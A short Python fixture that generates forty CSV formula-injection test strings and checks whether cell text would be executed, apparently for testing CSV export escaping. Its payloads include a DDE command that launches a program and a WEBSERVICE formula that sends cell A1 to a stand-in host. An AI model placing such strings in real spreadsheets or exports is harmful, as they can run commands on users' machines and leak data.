"""Forty texts that a spreadsheet might run, were they cells of an export (goal S13)."""

CALLS = [
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://ailleurs.example","Cliquez")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://ailleurs.example/"&A1)',
]
STARTS = ["=", "==", "+", "-", "@", "\t=", "\n=", "\r="]
PAYLOADS = [start + call for start in STARTS for call in CALLS]
LIVE = tuple("=+-@\t\r\n\0＝＋－＠")


def is_live(text: str) -> bool:
    """Whether a spreadsheet that reads this as the text of a CSV cell could run it."""
    return text.lstrip(" \u00a0\u3000\ufeff").startswith(LIVE)
